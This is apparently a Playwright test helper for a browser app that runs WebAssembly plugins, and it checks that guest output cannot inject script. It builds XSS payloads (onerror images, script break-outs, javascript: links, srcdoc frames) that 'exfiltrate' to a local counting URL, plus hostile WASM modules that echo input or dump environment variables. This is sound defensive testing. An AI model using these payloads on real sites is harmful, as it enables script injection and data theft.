/**
 * Tools for hostile-output.spec.ts: payloads that report back if they ever run in the app's
 * origin, a guard that checks nothing did, and tiny modules with hostile names and output.
 *
 * A payload that ran would set `window.__pwned`, `fetch` the fixture server's counting URL
 * (/exfil?key=…), open a dialog or throw. The app's CSP (`script-src 'self'`) would block most
 * inline script even after an injection, so the guard also looks for the injection itself: a
 * CSP violation report in the app page, or markup in the DOM that only guest data could have
 * put there (event-handler attributes, foreign scripts, unsandboxed or srcdoc frames,
 * javascript: links).
 */
import type { APIRequestContext, Page } from '@playwright/test';
import { createHash } from 'node:crypto';
import wabtInit from 'wabt';
import { deflateSync, strToU8 } from 'fflate';
import { expect, test as base } from './playground';
import { CORS_ORIGIN } from './urls';

export { expect };

/** What the app page reports about itself: anything but empty/undefined means something fired. */
export interface PageReport {
  pwned: unknown;
  polluted: unknown;
  csp: string[];
  injected: string[];
}

/**
 * Installed before the app's own scripts: records CSP violations in each document.
 *
 * Chromium reports a `script-src-attr` violation whenever an event-handler attribute is parsed in
 * a document tied to the page, even an inert DOMParser document that never runs anything, which
 * is where DOMPurify parses what it is about to strip. So handler attributes in DOMParser results
 * are counted: only violations beyond that count mean markup with handlers reached a live (or
 * detached but loading) element.
 */
function recordViolations(): void {
  const w = window as unknown as { __csp: string[]; __inertHandlers: number };
  w.__csp = [];
  w.__inertHandlers = 0;
  const parse = DOMParser.prototype.parseFromString;
  const countHandlers = (root: ParentNode): number => {
    let n = 0;
    for (const el of Array.from(root.querySelectorAll('*'))) {
      n += Array.from(el.attributes).filter((a) => /^on/i.test(a.name)).length;
      if (el instanceof HTMLTemplateElement) n += countHandlers(el.content);
    }
    return n;
  };
  DOMParser.prototype.parseFromString = function (this: DOMParser, text: string, type: DOMParserSupportedType) {
    const doc = parse.call(this, text, type);
    w.__inertHandlers += countHandlers(doc);
    return doc;
  };
  document.addEventListener('securitypolicyviolation', (e) => {
    // For a blocked inline handler the target is the element that carried it.
    const at = e.target instanceof Element ? ` on ${e.target.outerHTML.slice(0, 160)}` : '';
    w.__csp.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}${at}`.trim());
  });
}

/** Runs in the app page: markup only guest data could have put there. */
function report(): PageReport {
  const w = window as unknown as { __pwned?: unknown; __csp?: string[]; __inertHandlers?: number };
  const injected: string[] = [];
  const short = (el: Element) => el.outerHTML.slice(0, 120);
  for (const el of Array.from(document.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) injected.push(`event handler: ${short(el)}`);
      if (/^(href|src|action|formaction|xlink:href|data)$/i.test(attr.name) && /^\s*(javascript|vbscript):/i.test(attr.value)) injected.push(`script URL: ${short(el)}`);
    }
  }
  for (const s of Array.from(document.querySelectorAll('script'))) {
    if (!s.src || new URL(s.src).origin !== location.origin) injected.push(`script: ${short(s)}`);
  }
  for (const f of Array.from(document.querySelectorAll('iframe'))) {
    const sandbox = f.getAttribute('sandbox');
    if (f.hasAttribute('srcdoc')) injected.push(`srcdoc frame: ${short(f)}`);
    // The PDF frame is the one frame without a sandbox (Chromium's viewer refuses one); it only ever shows a blob typed application/pdf.
    if (sandbox === null && f.title !== 'PDF output') injected.push(`unsandboxed frame: ${short(f)}`);
    if (sandbox?.includes('allow-same-origin')) injected.push(`same-origin frame: ${short(f)}`);
  }
  for (const el of Array.from(document.querySelectorAll('object, embed, base, meta[http-equiv="refresh"], svg script, svg foreignObject'))) injected.push(`element: ${short(el)}`);
  // Handler attributes parsed in inert documents account for that many script-src-attr reports.
  let inert = w.__inertHandlers ?? 0;
  const csp = (w.__csp ?? ['(no CSP recorder: the init script did not run)']).filter((v) => !(v.startsWith('script-src-attr ') && inert-- > 0));
  return { pwned: w.__pwned, polluted: (Object.prototype as Record<string, unknown>).polluted, csp, injected };
}

/** A hostile test's view of the world: its counting URL and the checks. */
export class Guard {
  readonly dialogs: string[] = [];
  constructor(
    readonly page: Page,
    private readonly request: APIRequestContext,
    /** Counted by the fixture server under this key; never requested by the test itself. */
    readonly key: string,
  ) {}

  /** The fixture server's counting URL for this test. */
  get exfil(): string {
    return `${CORS_ORIGIN}/exfil?key=${this.key}`;
  }

  /** Nothing has fired in the app page so far, and no guest markup is live in it now. */
  async expectInert(place: string): Promise<void> {
    const got = await this.page.evaluate(report);
    expect(got, `after ${place}: the app page`).toEqual({ pwned: undefined, polluted: undefined, csp: [], injected: [] });
    expect(this.dialogs, `after ${place}: dialogs`).toEqual([]);
  }

  /** The counting URL was never requested. */
  async expectNoExfil(): Promise<void> {
    const res = await this.request.get(`${CORS_ORIGIN}/hits?key=${this.key}`);
    expect(await res.json(), 'requests to the counting URL').toEqual({ hits: 0 });
  }

  /** One payload with every classic vector, each reporting `place` if it runs. */
  payload(place: string): string {
    const run = `window.__pwned='${place}';fetch('${this.exfil}&at=${place}')`;
    return [
      `<img src=x onerror="${run}">`,
      `"><script>${run}</script>`,
      `<svg onload="${run}"></svg>`,
      `<a href="javascript:${run}">js-link</a>`,
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    ].join('');
  }
}

/** A short payload with no "/" (file names) that still reports `place`. */
export const namePayload = (place: string): string => `"><img src=x onerror="window.__pwned='${place}'">`;

interface Fixtures {
  guard: Guard;
}

/**
 * `test` for hostile specs: the app page records CSP violations from its first script, dialogs
 * are caught, and after the test the page and the counting URL are checked once more.
 */
export const test = base.extend<Fixtures>({
  page: async ({ page }, provide) => {
    await page.addInitScript(recordViolations);
    await provide(page);
  },
  guard: async ({ page, request, playground }, provide, testInfo) => {
    void playground; // the app is open before the test starts
    const guard = new Guard(page, request, `hostile-${testInfo.testId}-${Date.now()}`);
    page.on('dialog', (d) => {
      guard.dialogs.push(d.message());
      void d.dismiss();
    });
    await provide(guard);
    await guard.expectInert('the test');
    await guard.expectNoExfil();
  },
});

let wabtPromise: ReturnType<typeof wabtInit> | undefined;

/** WAT to bytes with wabt. */
export async function wat(source: string): Promise<Buffer> {
  wabtPromise ??= wabtInit();
  const module = (await wabtPromise).parseWat('hostile.wat', source);
  try {
    return Buffer.from(module.toBinary({}).buffer);
  } finally {
    module.destroy();
  }
}

/** A WAT string literal for any text: every UTF-8 byte escaped, so quotes and backslashes are data. */
export function watString(text: string): string {
  return `"${Array.from(Buffer.from(text, 'utf8'), (b) => `\\${b.toString(16).padStart(2, '0')}`).join('')}"`;
}

function leb(n: number): number[] {
  const out: number[] = [];
  do {
    let byte = n & 0x7f;
    n >>>= 7;
    if (n) byte |= 0x80;
    out.push(byte);
  } while (n);
  return out;
}

function str(text: string): number[] {
  const bytes = [...Buffer.from(text, 'utf8')];
  return [...leb(bytes.length), ...bytes];
}

/** A custom section named `name` with `payload` (appended after a module's other sections). */
export function customSection(name: string, payload: number[] = []): Buffer {
  const body = [...str(name), ...payload];
  return Buffer.from([0, ...leb(body.length), ...body]);
}

/** A `producers` section with one field and one (name, version) pair. */
export function producersSection(field: string, name: string, version: string): Buffer {
  return customSection('producers', [...leb(1), ...str(field), ...leb(1), ...str(name), ...str(version)]);
}

/**
 * An Extism plugin (kernel ABI, no PDK) that hands its input back in every way a guest can:
 *   echo     output = input
 *   shout    log_info and log_error the input, var_set input = input, output = input
 *   fail     error_set the input, return 1
 *   request  http_request with the input as the request JSON (output = the body)
 * Host calls take over the blocks they get, so each gets its own copy of the input.
 */
export const HOSTILE_PLUGIN_WAT = `(module
  (import "extism:host/env" "input_length" (func $len (result i64)))
  (import "extism:host/env" "input_load_u8" (func $load (param i64) (result i32)))
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store (param i64 i32)))
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
  (import "extism:host/env" "error_set" (func $error_set (param i64)))
  (import "extism:host/env" "log_info" (func $log_info (param i64)))
  (import "extism:host/env" "log_error" (func $log_error (param i64)))
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
  (memory (export "memory") 1)
  (func $dup (result i64)
    (local $n i64) (local $o i64) (local $i i64)
    (local.set $n (call $len))
    (local.set $o (call $alloc (local.get $n)))
    (block $done (loop $copy
      (br_if $done (i64.ge_u (local.get $i) (local.get $n)))
      (call $store (i64.add (local.get $o) (local.get $i)) (call $load (local.get $i)))
      (local.set $i (i64.add (local.get $i) (i64.const 1)))
      (br $copy)))
    (local.get $o))
  (func (export "echo") (result i32)
    (call $output_set (call $dup) (call $len)) (i32.const 0))
  (func (export "shout") (result i32)
    (call $log_info (call $dup))
    (call $log_error (call $dup))
    (call $var_set (call $dup) (call $dup))
    (call $output_set (call $dup) (call $len)) (i32.const 0))
  (func (export "fail") (result i32)
    (call $error_set (call $dup)) (i32.const 1))
  (func (export "request") (result i32)
    (local $body i64)
    (local.set $body (call $http_request (call $dup) (i64.const 0)))
    (call $output_set (local.get $body) (i64.const 0)) (i32.const 0)))`;

/**
 * A WASI command whose _start writes `stdout` to fd 1 and `stderr` to fd 2, then its arguments
 * (argv[0] included) to fd 1 and its environment to fd 2, one per line.
 */
export function hostileWasiWat(stdout: string, stderr: string): string {
  const outLen = Buffer.byteLength(stdout);
  const errLen = Buffer.byteLength(stderr);
  return `(module
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "args_sizes_get" (func $args_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "args_get" (func $args_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_sizes_get" (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get" (func $environ_get (param i32 i32) (result i32)))
  (memory (export "memory") 2)
  (data (i32.const 1024) ${watString(stdout)})
  (data (i32.const 8192) ${watString(stderr)})
  (func $write (param $fd i32) (param $ptr i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $ptr))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8))))
  ;; NUL terminators become newlines.
  (func $lines (param $ptr i32) (param $len i32)
    (local $i i32)
    (block $done (loop $next
      (br_if $done (i32.ge_u (local.get $i) (local.get $len)))
      (if (i32.eqz (i32.load8_u (i32.add (local.get $ptr) (local.get $i))))
        (then (i32.store8 (i32.add (local.get $ptr) (local.get $i)) (i32.const 10))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $next))))
  (func (export "_start")
    (call $write (i32.const 1) (i32.const 1024) (i32.const ${outLen}))
    (call $write (i32.const 2) (i32.const 8192) (i32.const ${errLen}))
    (drop (call $args_sizes_get (i32.const 16) (i32.const 20)))
    (drop (call $args_get (i32.const 16384) (i32.const 32768)))
    (call $lines (i32.const 32768) (i32.load (i32.const 20)))
    (call $write (i32.const 1) (i32.const 32768) (i32.load (i32.const 20)))
    (drop (call $environ_sizes_get (i32.const 24) (i32.const 28)))
    (drop (call $environ_get (i32.const 20480) (i32.const 65536)))
    (call $lines (i32.const 65536) (i32.load (i32.const 28)))
    (call $write (i32.const 2) (i32.const 65536) (i32.load (i32.const 28)))))`;
}

/** SHA-256 in hex, as share links carry it. */
export const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

/** `/#s=…` for a share state, encoded as the app encodes it (src/share/codec.ts). */
export function shareHash(state: unknown): string {
  return `/#s=${Buffer.from(deflateSync(strToU8(JSON.stringify(state)), { level: 9 })).toString('base64url')}`;
}

/** An in-memory file for `setInputFiles`. */
export const file = (name: string, content: string | Buffer, mimeType = 'application/octet-stream') => ({
  name,
  mimeType,
  buffer: typeof content === 'string' ? Buffer.from(content, 'utf8') : content,
});
